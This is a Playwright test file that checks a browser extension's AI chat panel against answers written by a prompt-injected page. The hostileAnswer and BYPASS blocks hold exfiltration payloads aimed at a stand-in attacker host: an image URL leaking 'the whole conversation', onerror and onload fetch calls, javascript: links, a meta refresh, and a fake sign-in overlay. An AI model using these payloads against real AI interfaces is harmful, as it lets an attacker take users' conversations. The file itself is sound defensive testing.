import type { Page } from '@playwright/test';
import { acceptKey } from '../servers/auth-check';
import { startCanary } from '../servers/canary';
import type { ExtensionSession } from './harness/launch';
import { startFakeAnthropic } from '../servers/fake-anthropic';
import { lastAnswer, sendMessage } from './harness/chat';
import { configureProvider } from './harness/configure';
import { expect, test } from './harness/fixtures';

// Issue 10 §1: an answer a prompt-injected page wrote must not make the panel send any request, run
// anything, or draw outside its box; and the Content Security Policy must stop the same on its own.

/** An answer that tries every vector, each URL at the canary with a path naming the vector. */
type Canary = Awaited<ReturnType<typeof startCanary>>;

function hostileAnswer(canary: string, port: number): string {
  const c = canary;
  return `Here is the summary you asked for.

![chart](http://attacker.localhost:${port}/md-image?q=the+whole+conversation)

[ref]: ${c}/ref-image
![logo][ref] and <img src="${c}/img-tag" alt="pic"> and <img srcset="${c}/srcset 1x">

<picture><source srcset="${c}/picture-source"><img src="${c}/picture-img"></picture>

<video poster="${c}/video-poster" src="${c}/video"><source src="${c}/video-source"></video><audio src="${c}/audio" autoplay></audio>

<iframe src="${c}/iframe"></iframe><object data="${c}/object"></object><embed src="${c}/embed">

<style>@import url(${c}/style-import); .log { background: url(${c}/style-background) }</style>
<link rel="stylesheet" href="${c}/link-stylesheet"><link rel="prefetch" href="${c}/link-prefetch"><link rel="preload" as="image" href="${c}/link-preload">
<link rel="preconnect" href="http://127.0.0.2:${port}"><link rel="dns-prefetch" href="//127.0.0.2:${port}">

<p class="alert" style="background:url(${c}/inline-style);position:fixed;inset:0;z-index:99">Your session expired. Sign in again.</p>

<form action="${c}/form" method="post"><input name="q" value="secret"><input type="image" src="${c}/input-image"><button>Send</button></form>

- [x] done
- [ ] open

<base href="${c}/base/"><meta http-equiv="refresh" content="0;url=${c}/meta-refresh">

<svg onload="fetch('${c}/svg-onload')"><image href="${c}/svg-image"/></svg><img src=x onerror="fetch('${c}/onerror')">

<table background="${c}/table-background"><tr><td background="${c}/td-background">cell</td></tr></table>

[run](javascript:fetch('${c}/javascript-link')) [settings](chrome-extension://abcdefghijklmnopabcdefghijklmnop/options.html) [here](/sidepanel.html) [there](//127.0.0.1:${port}/protocol-relative) <a href="${c}/ping-target" ping="${c}/ping">a link with ping</a>

| wide | table |
| --- | --- |
| ${'W'.repeat(3000)} | x |

Sources: [docs](https://example.com/docs)`;
}

/** Every element and attribute in the answer that is outside what DESIGN/issue 10 allow. */
function outsideAllowlist(panel: Page): Promise<string[]> {
  return panel.getByRole('log').getByRole('article').last().locator('.markdown').evaluate((root) => {
    const allowed: Record<string, string[]> = {
      p: [], br: [], hr: [], h1: [], h2: [], h3: [], h4: [], h5: [], h6: [], strong: [], em: [], del: [], blockquote: [],
      ul: [], ol: ['start'], li: [], pre: [], code: ['class'], span: ['class'], table: [], thead: [], tbody: [], tr: [],
      th: ['align'], td: ['align'], a: ['href', 'title', 'target', 'rel'],
    };
    const found: string[] = [];
    for (const el of root.querySelectorAll('*')) {
      if (el.closest('.md-group, .md-block') === el) continue; // the Markdown component's own wrappers
      const attrs = allowed[el.localName];
      if (!attrs) found.push(`<${el.localName}>`);
      else for (const a of el.attributes) if (!attrs.includes(a.name)) found.push(`${el.localName}[${a.name}]`);
      if (el.localName === 'a' && !/^(https?|mailto):/.test((el as HTMLAnchorElement).href)) found.push(`a[href=${el.getAttribute('href')}]`);
    }
    return found;
  });
}

/**
 * Resolves once the canary has a sentinel request from omni-ai's worker (the panel itself may
 * connect nowhere). Whatever the answer's DOM asked for was asked earlier: an element's request
 * starts when it is inserted, and the answer had finished rendering before this; so a request it
 * made would be in the canary's log by then.
 */
async function afterSentinel(extension: ExtensionSession, canary: Canary): Promise<void> {
  const arrived = canary.waitFor('/sentinel');
  await (await extension.serviceWorker()).evaluate((url) => fetch(url).then(() => undefined), `${canary.url}/sentinel`);
  await arrived;
}

test('a hostile answer stays inert: no request leaves the panel, nothing outside the allowlist, a remote image is a link to its host', async ({
  extension,
}) => {
  const canary = await startCanary();
  const answer = hostileAnswer(canary.url, canary.port);
  // Small pieces, so the panel also renders every half-written tag on the way.
  const deltas = answer.match(/[\s\S]{1,9}/g)!;
  const anthropic = await startFakeAnthropic({ models: ['claude-sonnet-5-5'], credential: acceptKey('k'), deltas });
  try {
    await configureProvider(await extension.openOptions(), 'Anthropic', { 'API key': 'k', 'Base URL': anthropic.url });
    const panel = await extension.openSidePanel();
    await expect(panel.getByRole('combobox', { name: 'Model' })).toHaveValue('claude-sonnet-5-5');

    await sendMessage(panel, 'Summarise the page I attached.');
    const article = await lastAnswer(panel);
    await expect(article.locator('.markdown')).toContainText('Sources: docs');

    // The provider got the chat call and, as the panel opened, its model-list calls (as many as the
    // panel made, which the answer has nothing to do with); the canary got nothing but our sentinel.
    await afterSentinel(extension, canary);
    expect(anthropic.requests.filter((r) => r.path !== '/v1/models').map((r) => `${r.method} ${r.path}`)).toEqual(['POST /v1/messages']);
    expect(anthropic.requests.filter((r) => r.path === '/v1/models').every((r) => r.method === 'GET')).toBe(true);
    expect(canary.hits.map((h) => h.path)).toEqual(['/sentinel']);
    // Not even a connection: a preconnect is not a request, and no CSP directive governs it.
    expect(canary.connections).toEqual(['127.0.0.1']);
    expect(panel.url()).toBe(`chrome-extension://${extension.extensionId}/sidepanel.html`); // no refresh, no <base>

    // Nothing outside the allowlist in the answer's DOM.
    expect(await outsideAllowlist(panel)).toEqual([]);
    await expect(article.locator('.markdown').getByRole('button')).toHaveCount(0);
    await expect(article.locator('.markdown').getByRole('textbox')).toHaveCount(0);
    await expect(article.locator('.markdown').getByRole('checkbox')).toHaveCount(0);
    await expect(article.locator('.markdown')).toContainText('☑ done');
    await expect(article.locator('.markdown')).toContainText('☐ open');

    // A remote image is a link that names its host, to the image's URL, opening in a new tab.
    const image = article.getByRole('link', { name: `Image from attacker.localhost:${canary.port}` });
    await expect(image).toHaveAttribute('href', `http://attacker.localhost:${canary.port}/md-image?q=the+whole+conversation`);
    await expect(image).toHaveAttribute('target', '_blank');
    await expect(image).toHaveAttribute('rel', 'noopener noreferrer');
    // The reference-style image, the <img> tag and the <picture>'s <img>; the srcset-only one has no src to name.
    await expect(article.getByRole('link', { name: `Image from 127.0.0.1:${canary.port}` })).toHaveCount(3);
    // Links only http(s)/mailto; the others are their text.
    await expect(article.getByRole('link', { name: 'run' })).toHaveCount(0);
    await expect(article.getByRole('link', { name: 'settings' })).toHaveCount(0);
    await expect(article.getByRole('link', { name: 'here', exact: true })).toHaveCount(0);
    await expect(article.getByRole('link', { name: 'there' })).toHaveCount(0);
    await expect(article.getByRole('link', { name: 'docs' })).toHaveAttribute('href', 'https://example.com/docs');

    // Drawn inside its box: the fake "session expired" notice is not fixed over the panel, and the
    // 3,000-character word scrolls inside the answer instead of widening the panel.
    const notice = article.getByText('Your session expired. Sign in again.');
    expect(await notice.evaluate((el) => [getComputedStyle(el).position, el.className])).toEqual(['static', '']);
    const boxes = await article.evaluate((el) => {
      const markdown = el.querySelector('.markdown')!;
      return {
        contain: getComputedStyle(markdown).contain,
        answerRight: markdown.getBoundingClientRect().right,
        articleRight: el.getBoundingClientRect().right,
        pageOverflow: document.documentElement.scrollWidth - document.documentElement.clientWidth,
      };
    });
    expect(boxes.contain).toContain('paint');
    expect(boxes.answerRight).toBeLessThanOrEqual(boxes.articleRight);
    expect(boxes.pageOverflow).toBe(0);

    // Only a click fetches the image, in a new tab that is told nothing of the panel.
    const [tab] = await Promise.all([extension.context.waitForEvent('page'), image.click()]);
    await canary.waitFor('/md-image');
    expect(canary.hits.find((h) => h.path === '/md-image')?.referer).toBeUndefined();
    expect(await tab.evaluate(() => window.opener)).toBeNull();
    expect(panel.url()).toBe(`chrome-extension://${extension.extensionId}/sidepanel.html`);
    // The user's tab on the attacker's host still asks it for things after loading (its icon):
    // closed before the canary stops, or that request fails in the tab's console.
    await tab.close();
  } finally {
    await Promise.all([canary.close(), anthropic.close()]);
  }
});

/**
 * Elements that would each make a request to `base`, written straight into the panel's DOM. Not
 * here: `<link rel=prefetch>`, which Chromium 156 lets through to any https origin and to http on
 * loopback (what the worker's connect-src must admit) in spite of `default-src 'self'`, and
 * `<link rel=preconnect|dns-prefetch>`, which no CSP directive governs. The sanitiser is their
 * only guard; the first test shows it holds.
 */
const BYPASS = (base: string) => `
  <img src="${base}/csp-img">
  <img srcset="${base}/csp-srcset 1x">
  <input type="image" src="${base}/csp-input-image">
  <svg><image href="${base}/csp-svg-image"></image></svg>
  <link rel="stylesheet" href="${base}/csp-stylesheet">
  <link rel="preload" as="image" href="${base}/csp-preload">
  <iframe src="${base}/csp-iframe"></iframe>
  <object data="${base}/csp-object"></object>
  <embed src="${base}/csp-embed">
  <video src="${base}/csp-video" poster="${base}/csp-poster"></video>
  <audio src="${base}/csp-audio"></audio>
  <form id="csp-form" action="${base}/csp-form" method="post"><input name="q" value="secret"></form>
  <base href="${base}/csp-base/">
  <p style="background: url(${base}/csp-inline-style)">styled</p>
  <style>@import url(${base}/csp-style-import);</style>`;

test('the Content Security Policy alone stops the same requests, should the sanitiser miss one', async ({ extension }) => {
  const canary = await startCanary();
  try {
    const panel = await extension.openSidePanel();
    await expect(panel.getByRole('textbox', { name: 'Message' })).toBeVisible();
    await panel.evaluate(
      ({ html, fetchUrl }) => {
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.effectiveDirective} ${e.blockedURI}`));
        (globalThis as unknown as { cspSeen: string[] }).cspSeen = seen;
        const box = document.createElement('div');
        box.innerHTML = html; // bypassing the sanitiser on purpose
        document.body.append(box);
        (document.getElementById('csp-form') as HTMLFormElement).submit();
        // The panel's own policy: it connects nowhere, so even its own code could not send the conversation out.
        void fetch(fetchUrl).catch(() => undefined);
      },
      { html: BYPASS(canary.url), fetchUrl: `${canary.url}/csp-fetch` },
    );
    // Frames and plugins are reported by origin only (CSP3 §5.3: a cross-origin navigation's path is not exposed).
    const origin = canary.url;
    const expected = [
      'img-src /csp-img', 'img-src /csp-srcset', 'img-src /csp-input-image', 'img-src /csp-svg-image', 'img-src /csp-poster',
      'img-src /csp-preload', 'style-src-elem /csp-stylesheet', 'frame-src origin', 'object-src origin', 'media-src /csp-video',
      'media-src /csp-audio', 'form-action /csp-form', 'connect-src /csp-fetch', 'base-uri /csp-base/', 'style-src-attr inline', 'style-src-elem inline',
    ].sort();
    // The browser refuses each of them, and says so.
    const seen = async () => [
      ...new Set(
        (await panel.evaluate(() => (globalThis as unknown as { cspSeen: string[] }).cspSeen)).map((v) =>
          v.replace(`${origin}/`, '/').replace(origin, 'origin'),
        ),
      ),
    ].sort();
    await expect.poll(seen).toEqual(expected);
    await afterSentinel(extension, canary);
    expect(canary.hits.map((h) => h.path)).toEqual(['/sentinel']);

    // Each refusal is a console error, as it should be: expected in this test, and only in this test.
    const refusals = extension.consoleErrors.filter((e) => /violates the (following|document's) Content Security Policy/.test(e));
    expect(refusals.length).toBeGreaterThanOrEqual(expected.length);
    extension.consoleErrors.splice(0, extension.consoleErrors.length, ...extension.consoleErrors.filter((e) => !refusals.includes(e)));
  } finally {
    await canary.close();
  }
});

test('the same policy lets the worker call any https origin and http on loopback, and nothing else', async ({ extension }) => {
  const canary = await startCanary();
  try {
    const worker = await extension.serviceWorker();
    // A refusal in the worker is reported to the worker (not to its console, which the harness reads).
    await worker.evaluate(() => {
      const refused: string[] = [];
      self.addEventListener('securitypolicyviolation', (e) => refused.push(`${e.effectiveDirective} ${e.blockedURI}`));
      (globalThis as unknown as { refused: string[] }).refused = refused;
    });
    const attempt = (url: string) =>
      worker.evaluate(async (u) => {
        try {
          return `status ${(await fetch(u)).status}`;
        } catch (error) {
          return `failed: ${(error as Error).message}`;
        }
      }, url);

    expect(await attempt(`${canary.url}/worker-loopback`)).toBe('status 200');
    expect(await attempt(`http://localhost:${canary.port}/worker-localhost`)).toBe('status 200');
    // https to the canary's plain-HTTP port: the TLS handshake fails, but only after the policy let it connect.
    const connectionsBefore = canary.connections.length;
    expect(await attempt(`https://127.0.0.1:${canary.port}/worker-https`)).toBe('failed: Failed to fetch');
    expect(canary.connections.length).toBeGreaterThan(connectionsBefore);
    // Plain http to anything but localhost and 127.0.0.1, even another loopback address, is refused.
    expect(await attempt(`http://127.0.0.2:${canary.port}/worker-elsewhere`)).toBe('failed: Failed to fetch');
    expect(canary.hits.map((h) => `${h.address} ${h.path}`)).toEqual(['127.0.0.1 /worker-loopback', '127.0.0.1 /worker-localhost']);
    expect(canary.connections).not.toContain('127.0.0.2');
    expect(await worker.evaluate(() => (globalThis as unknown as { refused: string[] }).refused)).toEqual([
      `connect-src http://127.0.0.2:${canary.port}/worker-elsewhere`,
    ]);
  } finally {
    await canary.close();
  }
});
